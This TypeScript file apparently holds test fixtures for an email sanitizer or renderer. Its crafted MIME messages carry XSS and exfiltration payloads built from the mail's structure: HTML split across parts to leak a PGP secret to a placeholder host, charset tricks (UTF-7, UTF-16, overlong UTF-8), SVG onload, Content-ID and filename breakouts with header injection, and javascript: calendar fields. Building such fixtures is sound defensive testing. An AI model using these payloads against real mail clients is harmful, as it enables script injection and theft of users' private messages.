/** Mails whose harm lies in how their parts are put together. */
type Part = { head: string; body: string };
const parts = (kind: string, list: Part[], before = "") =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/${kind}; boundary="b"\r\n\r\n${before}${list.map(({ head, body }) => `--b\r\n${head}\r\n\r\n${body}\r\n`).join("")}--b--\r\n`;
const html = (body: string, more = "charset=utf-8"): Part => ({ head: `Content-Type: text/html; ${more}`, body });
const text = (body: string): Part => ({ head: "Content-Type: text/plain; charset=utf-8", body });

/** What follows From, To and Message-ID. */
export const mails: Record<string, string> = {
  "a document over several parts, so that the one between is sent away": parts("mixed", [
    html('<p>x</p><img src="AWAY?'),
    text("-----BEGIN PGP MESSAGE-----\r\nsecret\r\n-----END PGP MESSAGE-----"),
    html('"><script>RUN</script>'),
  ]),
  "a form over several parts": parts("mixed", [
    html('<form action="AWAY"><textarea name=x>'),
    text("secret"),
    html("</textarea><button autofocus onfocus=RUN>x</button></form>"),
  ]),
  "a comment over several parts": parts("mixed", [html("<!--"), html("--><img src=x onerror=RUN>")]),
  "a style sheet over several parts": parts("mixed", [html("<style>@import 'AWAY?"), text("secret"), html("';</style>")]),
  "a part of AMP": parts("alternative", [
    text("plain"),
    {
      head: "Content-Type: text/x-amp-html; charset=utf-8",
      body: '<html amp4email><script>RUN</script><amp-img src="AWAY"></amp-img></html>',
    },
    html("<p>x</p>"),
  ]),
  "a part of AMP alone":
    'Content-Type: text/x-amp-html; charset=utf-8\r\n\r\n<html amp4email><script>RUN</script><amp-list src="AWAY"></amp-list></html>\r\n',
  "HTML in UTF-7":
    "Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-RUN+ADw-/script+AD4-+ADw-img src+AD0-x onerror+AD0-RUN+AD4-\r\n",
  "HTML in UTF-16 that says it is ASCII": `Content-Type: text/html; charset=us-ascii\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from("\ufeff<script>RUN</script>", "utf16le").toString("base64")}\r\n`,
  "HTML in ISO-2022-JP": 'Content-Type: text/html; charset=iso-2022-jp\r\n\r\n<p title="\u001b$B">\u001b(B<img src=x onerror=RUN></p>\r\n',
  "HTML in a charset that is none": 'Content-Type: text/html; charset="x\'<script>RUN</script>"\r\n\r\n<script>RUN</script>\r\n',
  "HTML in overlong letters":
    "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=C0=BCscript=C0=BERUN=C0=BC/script=C0=BE=E0=80=BCsvg onload=3DRUN=E0=80=BE\r\n",
  "HTML that says it is text":
    "Content-Type: text/plain; charset=utf-8\r\n\r\n<html><body><script>RUN</script><img src=x onerror=RUN></body></html>\r\n",
  "HTML without a type": "\r\n<html><img src=x onerror=RUN></html>\r\n",
  "HTML with two types": "Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=RUN>\r\n",
  XHTML: "Content-Type: application/xhtml+xml\r\n\r\n<html xmlns='http://www.w3.org/1999/xhtml'><script>RUN</script></html>\r\n",
  "a drawing as the words": "Content-Type: image/svg+xml\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\r\n",
  "a drawing in the words": parts("related", [
    html('<p>x</p><img src="cid:d@x" alt="drawing" width=99>'),
    {
      head: "Content-Type: image/svg+xml; name=d.svg\r\nContent-ID: <d@x>\r\nContent-Disposition: inline",
      body: "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='AWAY'/></svg>",
    },
  ]),
  "a drawing that says it is a picture": parts("related", [
    html('<p>x</p><img src="cid:d@x" alt="picture" width=99>'),
    {
      head: "Content-Type: image/png; name=d.png\r\nContent-ID: <d@x>\r\nContent-Disposition: inline",
      body: "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    },
  ]),
  "a Content-ID with a way out": parts("related", [
    html('<img src="cid:x&quot;onerror=&quot;RUN&quot;"><img src="cid:x%22onerror=%22RUN%22">'),
    { head: 'Content-Type: image/png\r\nContent-ID: <x"onerror="RUN">\r\nContent-Disposition: inline', body: "x" },
  ]),
  "a Content-ID that is an address": parts("related", [
    html('<img src="cid:AWAY">'),
    { head: "Content-Type: image/png\r\nContent-Location: AWAY\r\nContent-ID: <AWAY>", body: "x" },
  ]),
  "a place for all parts": parts("related", [html('<img src="a.png"><link rel=stylesheet href="b.css">')]).replace(
    "MIME-Version",
    "Content-Base: AWAY\r\nContent-Location: AWAY\r\nMIME-Version",
  ),
  "a body that lies elsewhere": 'Content-Type: message/external-body; access-type=URL; URL="AWAY"\r\n\r\nContent-Type: text/html\r\n\r\n',
  "words of rich text": "Content-Type: text/enriched\r\n\r\n<bold>x</bold><param>RUN</param><script>RUN</script>\r\n",
  "a message in a message": parts("mixed", [
    text("x"),
    {
      head: "Content-Type: message/rfc822",
      body: "From: a@b.example\r\nSubject: <script>RUN</script>\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>",
    },
  ]),
  "an invitation": parts("mixed", [
    text("x"),
    {
      head: "Content-Type: text/calendar; method=REQUEST",
      body: 'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20261201T100000Z\r\nSUMMARY:<img src=x onerror=RUN>\r\nLOCATION:javascript:RUN\r\nURL:javascript:RUN\r\nX-ALT-DESC;FMTTYPE=text/html:<script>RUN</script>\r\nORGANIZER;CN="<svg onload=RUN>":mailto:a@b.example\r\nEND:VEVENT\r\nEND:VCALENDAR',
    },
  ]),
  "words before the first part": parts("mixed", [text("x")], "<script>RUN</script>\r\n<img src=x onerror=RUN>\r\n"),
  "a name of a file as a way out": parts("mixed", [
    text("x"),
    {
      head: "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''%3Cimg%20src%3Dx%20onerror%3DRUN%3E%0d%0aSet-Cookie:%20a=b.html",
      body: "<script>RUN</script>",
    },
  ]),
};
